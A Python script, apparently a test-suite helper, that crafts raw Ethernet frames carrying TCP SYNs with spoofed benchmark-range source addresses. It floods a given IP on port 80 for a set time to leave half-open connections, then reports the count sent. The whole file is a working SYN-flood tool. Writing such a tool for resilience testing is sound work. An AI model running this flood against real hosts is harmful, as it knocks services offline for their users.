"""Spoofed-source SYNs to DST_IP port 80 from an AF_PACKET socket, as fast as Python
goes, for SECS seconds (attacks_veth.rs). Sources are random addresses in 198.18.0.0/15
(for an IPv6 DST_IP, in 2001:db8:ffff::/48), so the SYN-ACKs go nowhere (the peer's
kernel drops them) and every SYN leaves a half-open connection behind. Prints "flooding"
once the first batch is on the wire, then the number sent (not counting those the link
dropped).

Usage: syn_flood.py IFACE DST_MAC DST_IP SECS
"""
import socket, struct, random, sys, time
from rawsend import csum, send
ifname, dst_mac, dst_ip, secs = sys.argv[1], bytes.fromhex(sys.argv[2].replace(":", "")), sys.argv[3], float(sys.argv[4])
rnd = random.Random(11)
s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
s.bind((ifname, 0))
src_mac = s.getsockname()[4][:6]
v6 = ":" in dst_ip
frames = []
for i in range(4096):
    if v6:
        src = socket.inet_pton(socket.AF_INET6, "2001:db8:ffff:%x::%x" % (rnd.randrange(1 << 16), rnd.randrange(1, 1 << 16)))
        dst = socket.inet_pton(socket.AF_INET6, dst_ip)
    else:
        src = socket.inet_aton("198.%d.%d.%d" % (18 + rnd.randrange(2), rnd.randrange(256), rnd.randrange(1, 255)))
        dst = socket.inet_aton(dst_ip)
    opts = b"\x02\x04\x05\xb4\x01\x03\x03\x07\x04\x02\x00\x00"
    tcp = struct.pack("!HHIIBBHHH", rnd.randrange(1024, 65536), 80, rnd.randrange(1 << 32), 0, (5 + len(opts) // 4) << 4, 0x02, 64240, 0, 0) + opts
    if v6:
        # RFC 8200 8.1: the IPv6 pseudo-header (32-bit length, 24 zero bits, next header).
        c = csum(src + dst + struct.pack("!IxxxB", len(tcp), 6) + tcp)
    else:
        c = csum(src + dst + struct.pack("!BBH", 0, 6, len(tcp)) + tcp)
    tcp = tcp[:16] + struct.pack("!H", c) + tcp[18:]
    if v6:
        ip = struct.pack("!IHBB16s16s", 6 << 28, len(tcp), 6, 64, src, dst)
        frames.append(dst_mac + src_mac + b"\x86\xdd" + ip + tcp)
    else:
        ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(tcp), i, 0x4000, 64, 6, 0, src, dst)
        ip = ip[:10] + struct.pack("!H", csum(ip)) + ip[12:]
        frames.append(dst_mac + src_mac + b"\x08\x00" + ip + tcp)
said = False
sent = 0
end = time.time() + secs
while time.time() < end:
    for f in frames[:512]:
        sent += send(s, f)
    frames = frames[512:] + frames[:512]
    if sent and not said:
        # The flood is on the wire: the test starts its real clients now.
        print("flooding", flush=True)
        said = True
print(sent)
